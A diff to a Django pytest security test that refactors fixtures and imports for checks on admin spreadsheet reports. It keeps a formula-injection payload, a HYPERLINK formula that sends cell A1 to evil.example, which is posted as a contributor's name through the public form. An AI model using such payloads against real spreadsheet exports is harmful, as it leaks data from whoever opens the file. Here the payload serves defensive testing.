@@ -10,32 +10,20 @@ import io
 
 import openpyxl
 import pytest
-from django.core import mail
-from django.core.cache import cache
 
-from tests.security.conftest import assert_no_server_error
-from tests.security.test_contributor_link import contribution_data
+from tests.security.conftest import assert_no_server_error, contribution_form
 
-pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)
+pytestmark = [pytest.mark.django_db(transaction=True, serialized_rollback=True), pytest.mark.usefixtures("fresh_state")]
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 # The reports that list people by the name they typed: students' points (A17), staff certificates (A18).
 REPORTS = {"student": "/admin/policy-reports/points/", "staff": "/admin/policy-reports/staff/"}
 
 
-@pytest.fixture(autouse=True)
-def fresh_state(settings, tmp_path):
-    settings.MEDIA_ROOT = str(tmp_path)
-    cache.clear()
-    mail.outbox.clear()
-    yield
-    cache.clear()
-
-
 @pytest.fixture(params=REPORTS)
 def report(request, visitor, site_tree, people):
     """The report's path, once a contributor of its kind typed a formula as their name into the public form."""
-    response = visitor.post("/contribute/", contribution_data(people, name=HOSTILE, kind=request.param))
+    response = visitor.post("/contribute/", contribution_form(people, name=HOSTILE, kind=request.param))
     assert_no_server_error(response)
     assert response.status_code == 302, response.text[:500]
     return REPORTS[request.param]
